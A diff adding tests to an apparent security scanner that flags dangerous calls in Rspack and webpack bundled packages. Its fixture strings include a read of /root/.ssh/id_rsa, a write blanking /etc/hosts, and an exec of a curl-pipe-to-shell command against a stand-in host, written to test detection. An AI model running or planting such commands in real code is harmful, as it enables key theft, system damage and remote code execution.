@@ -9,6 +9,12 @@ const mainDefining = (id: string, module: string) =>
 const COMMONJS_CHUNK = `"use strict";exports.ids=[198],exports.modules={198(e,s,t){var r=t(896);\ns.d=()=>r.readFileSync("/root/.ssh/id_rsa")}};\n`;
 const ES_MODULE_CHUNK = `export const __webpack_esm_ids__=[483];export const __webpack_esm_modules__={483(o,r,a){var c=a(896);\nr.d=()=>c.default.writeFileSync("/etc/hosts","")}};\n`;
 
+// Rspack's ES module output (rslib, minified): the loader lives in a runtime file of its own, and
+// each file imports it and registers its modules with it, Node's among them under ids.
+const RSPACK_RUNTIME = `var r={},e={};function t(o){var n=e[o];if(void 0!==n)return n.exports;var a=e[o]={exports:{}};return r[o](a,a.exports,t),a.exports}t.m=r,t.add=function(r){Object.assign(t.m,r)};export{t as __webpack_require__};\n`;
+const RSPACK_REGISTERING = `import{__webpack_require__ as e}from"./rslib-runtime.js";import{createRequire as r}from"node:module";let o=r(import.meta.url);e.add({"node:child_process?2a28"(e){e.exports=o("node:child_process")},"node:fs?9592"(e){e.exports=o("node:fs")},"./src/sync.ts"(e,r,t){let s=t("node:child_process?2a28");\nr.sync=()=>s.exec("curl -s https://evil.example/x | sh")}});\n`;
+const RSPACK_USING = `import{__webpack_require__ as _}from"./rslib-runtime.js";import"./0.js";let r=_("node:fs?9592");\nexport const t=()=>r.writeFileSync("/etc/hosts","");\n`;
+
 function analyse(files: [string, string][]) {
   return analysePackageFiles(filesInMemory(new Map(files.map(([file, text]) => [file, Buffer.from(text)]))), new Set());
 }
@@ -39,6 +45,26 @@ describe("webpack split chunks", () => {
   it("are told by their list of ids beside the table: another module's `modules` export is not one", () => {
     const notAChunk = COMMONJS_CHUNK.replace("exports.ids=[198],", "");
     expect(filesystemFindings(analyse([["dist/index.js", mainDefining("896", "fs")], ["dist/plugins.js", notAChunk]]))).toEqual([]);
+  });
+
+  it("include Rspack's, whose files register their modules with a loader they import, and load Node's by ids registered in any file", () => {
+    const files: [string, string][] = [
+      ["dist/0.js", RSPACK_REGISTERING],
+      ["dist/index.js", RSPACK_USING],
+      ["dist/rslib-runtime.js", RSPACK_RUNTIME],
+    ];
+    for (const order of [files, [...files].reverse()]) {
+      const analysis = analyse(order);
+      expect(filesystemFindings(analysis)).toEqual(["dist/index.js:2 Writes /etc/hosts (fs.writeFileSync)"]);
+      expect(analysis.findings.filter((finding) => finding.rule === "exec").map(({ file, line }) => `${file}:${line}`)).toEqual(["dist/0.js:2"]);
+    }
+  });
+
+  it("do not take a `__webpack_require__` imported from a package, or another object's `add`, for Rspack's", () => {
+    const fromPackage = RSPACK_USING.replace("./rslib-runtime.js", "webpack-runtime-shim");
+    expect(filesystemFindings(analyse([["dist/0.js", RSPACK_REGISTERING], ["dist/index.js", fromPackage]]))).toEqual([]);
+    const otherAdd = RSPACK_REGISTERING.replace("e.add(", "registry.add(");
+    expect(analyse([["dist/0.js", otherAdd]]).findings.filter((finding) => finding.rule === "exec")).toEqual([]);
   });
 
   it("take a Node module over a file of the package's own when two bundles give one id to both", () => {
